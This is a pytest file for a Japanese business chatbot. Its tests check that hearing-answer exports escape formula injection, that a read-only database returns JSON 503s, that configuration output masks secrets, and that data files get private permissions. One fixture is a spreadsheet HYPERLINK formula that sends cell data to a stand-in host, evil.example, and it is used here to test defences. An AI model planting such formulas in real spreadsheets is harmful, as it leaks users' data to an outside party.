"""Data at rest and on the way out (issue 20): exports never carry live formulas (finding 11)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.engine import Engine
from bot.services import Services
from handlers.hearing.schema import DEFINITIONS_DIR
from tests.conftest import make_settings
from tests.test_hearing_export import interview, run_cli

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"詳細")'
OTHERS = {"受発注を紙で管理しており、デジタル化したい": "@SUM(1+1)", "窓口 花子": "+81 dial", "株式会社窓口製作所": "-2+3"}


def test_hearing_answers_that_look_like_formulas_stay_text_in_csv_and_xlsx(tmp_path: Path) -> None:
    services = Services.create(make_settings(tmp_path))
    interview(Engine(services), "attacker", **{"自動車部品の精密加工": FORMULA}, **OTHERS)
    csv_text = run_cli("hearing", "export", "--format", "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
    for typed in (FORMULA, *OTHERS.values()):
        assert "'" + typed in cells, typed
        assert typed not in cells, typed  # never as the cell's first character
    out = tmp_path / "answers.xlsx"
    run_cli("hearing", "export", "--format", "xlsx", "--out", str(out))
    sheet = load_workbook(out).active
    values = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    for typed in (FORMULA, *OTHERS.values()):
        assert values.get("'" + typed) == "s", (typed, values.get("'" + typed))
    assert not [v for v, kind in values.items() if kind == "f" or (isinstance(v, str) and v.startswith("="))]
    services.close()


def test_form_labels_that_look_like_formulas_stay_text_in_the_header_row(tmp_path: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """The cells were neutralised but the header row was written as it came: its labels come from the form
    files, and a label starting with `=` became a live formula in the CSV and a formula cell in the xlsx."""
    forms = tmp_path / "forms"
    forms.mkdir()
    v1 = (DEFINITIONS_DIR / "dx_platform_hearing.v1.yaml").read_text(encoding="utf-8")
    labels = {"label: 企業名\n": f"label: {json.dumps(FORMULA)}\n", "label: 法人番号\n": "label: '@SUM(1+1)'\n",
              "label: 業種\n": "label: '-2+3'\n"}
    v2 = v1.replace("version: 1", "version: 2")
    for old, new in labels.items():
        assert old in v2
        v2 = v2.replace(old, new)
    (forms / "dx_platform_hearing.v2.yaml").write_text(v2, encoding="utf-8")
    monkeypatch.setenv("MADOGUCHI_HEARING__FORMS_DIRS", json.dumps([str(forms)]))
    services = Services.create(make_settings(tmp_path))
    interview(Engine(services), "applicant")
    header = next(csv.reader(io.StringIO(run_cli("hearing", "export", "--format", "csv").decode("utf-8-sig"))))
    for typed in (FORMULA, "@SUM(1+1)", "-2+3"):
        assert "'" + typed in header and typed not in header, (typed, header)
    out = tmp_path / "answers.xlsx"
    run_cli("hearing", "export", "--format", "xlsx", "--out", str(out))
    first = {cell.value: cell.data_type for cell in load_workbook(out).active[1]}
    for typed in (FORMULA, "@SUM(1+1)", "-2+3"):
        assert first.get("'" + typed) == "s", (typed, first)
    assert not [v for v, kind in first.items() if kind == "f"]
    services.close()


def test_a_store_that_refuses_writes_gives_json_503_and_readyz_not_ready(tmp_path: Path) -> None:
    """Finding 15: a read-only disk gave a plain-text 500 while /readyz said ready."""
    import httpx
    from sqlalchemy import event

    from integrations.web import create_app
    from tests.conftest import CHAT_HEADERS, CHAT_TOKEN, LiveServer

    services = Services.create(make_settings(tmp_path, staff__api_token=CHAT_TOKEN))
    with LiveServer(create_app(services)) as server, httpx.Client(base_url=server.url, headers=CHAT_HEADERS,
                                                                  timeout=30) as client:
        assert client.get("/readyz").status_code == 200
        assert client.post("/api/chat", json={"user_id": "u1", "text": "メニュー"}).status_code == 200

        def read_only(dbapi_connection, _record) -> None:  # type: ignore[no-untyped-def]
            dbapi_connection.execute("PRAGMA query_only = ON")  # SQLite refuses every write: SQLITE_READONLY

        event.listen(services.db.engine, "connect", read_only)
        services.db.engine.dispose()
        ready = client.get("/readyz")
        assert ready.status_code == 503 and ready.json()["checks"]["database"] is False
        for body in ({"user_id": "u1", "text": "ヘルプ"}, {"user_id": "u2", "text": "メニュー"}):
            response = client.post("/api/chat", json=body)
            assert response.status_code == 503, response.text
            assert response.headers["content-type"].startswith("application/json")
            assert response.json()["error"] == "storage_unavailable" and response.json()["message_en"]
        event.remove(services.db.engine, "connect", read_only)
        services.db.engine.dispose()
        assert client.get("/readyz").status_code == 200
    services.close()


def test_config_show_masks_secrets_in_url_query_strings(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """Finding 18: `config show` printed `?password=` and `?token=` values."""
    from typer.testing import CliRunner

    from bot.settings import get_settings
    from integrations.cli_root import app

    monkeypatch.setenv("MADOGUCHI_DATABASE__URL", "postgresql+psycopg://app:dbpass1@db.internal/madoguchi?sslpassword=certpass2&sslmode=require")
    monkeypatch.setenv("MADOGUCHI_KNOWLEDGE__CHROMA_URL", "http://chroma.internal:8000/?token=chromatoken3")
    monkeypatch.setenv("MADOGUCHI_LLM__BASE_URL", "https://llm.example/v1?api_key=llmkey4&model=x")
    monkeypatch.setenv("MADOGUCHI_KNOWLEDGE__EMBEDDING_BASE_URL", "https://user:embedpass5@embed.example/?access_token=tok6")
    get_settings.cache_clear()
    for args in (["config", "show"], ["config", "show", "--json"]):
        output = CliRunner().invoke(app, args, catch_exceptions=False).output
        for secret in ("dbpass1", "certpass2", "chromatoken3", "llmkey4", "embedpass5", "tok6"):
            assert secret not in output, (secret, output)
        if "--json" in args:  # the table cuts long values; the JSON shows what is kept
            assert "sslmode=require" in output and "model=x" in output and "chroma.internal" in output


def test_data_dir_and_database_files_are_private(tmp_path: Path) -> None:
    """Finding 19: the SQLite file was world-readable (0644)."""
    import os
    import stat

    from bot.engine import Engine
    from bot.messages import InboundMessage

    old = os.umask(0o022)
    try:
        services = Services.create(make_settings(tmp_path))
        Engine(services).handle(InboundMessage(channel="cli", external_user_id="me", text="メニュー"))
        data_dir = tmp_path / "data"
        database = data_dir / "madoguchi.sqlite3"
        assert stat.S_IMODE(data_dir.stat().st_mode) == 0o700
        for path in (database, database.with_name(database.name + "-wal"), database.with_name(database.name + "-shm")):
            assert path.exists() and stat.S_IMODE(path.stat().st_mode) == 0o600, (path, oct(path.stat().st_mode))
        services.close()
        data_dir.chmod(0o755)  # an installation from before: opened again, it is made private
        database.chmod(0o644)
        Services.create(make_settings(tmp_path)).close()
        assert stat.S_IMODE(data_dir.stat().st_mode) == 0o700 and stat.S_IMODE(database.stat().st_mode) == 0o600
    finally:
        os.umask(old)
